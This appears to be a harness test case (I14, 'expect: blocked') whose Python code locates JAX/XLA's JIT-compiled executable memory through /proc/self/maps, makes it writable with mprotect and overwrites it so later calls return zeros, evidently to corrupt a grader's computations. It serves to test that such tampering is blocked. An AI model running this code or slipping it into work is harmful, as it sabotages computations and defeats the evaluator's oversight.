# expect: blocked
# in the grader's process: succeeds
# twice
# I14: overwrite what XLA has compiled, where it lies in memory, so that whoever calls it next gets nothing of it.

# %%
import ctypes
import numpy as np
import jax, jax.numpy as jnp

RETURN = b"\x31\xc0\xc3"  # xor eax, eax; ret
libc = ctypes.CDLL(None, use_errno=True)

def wrong():
    jnp.full((5,), 7.0).block_until_ready()  # so that no answer lies about where the next one goes
    return not np.array_equal(jnp.exp(jnp.zeros(5, jnp.float32)), np.ones(5))

def attack(facts):
    found = wrong()
    for line in open("/proc/self/maps"):
        place, rights, *_, name = (line + " -").split()[:6] if len(line.split()) > 5 else (*line.split(), "")
        begin, end = (int(part, 16) for part in place.split("-"))
        if rights == "r-xp" and not name:
            libc.mprotect(ctypes.c_void_p(begin), ctypes.c_size_t(end - begin), 7)
            ctypes.memmove(begin, (b"\x90" * (end - begin - len(RETURN))) + RETURN, end - begin)
    return found
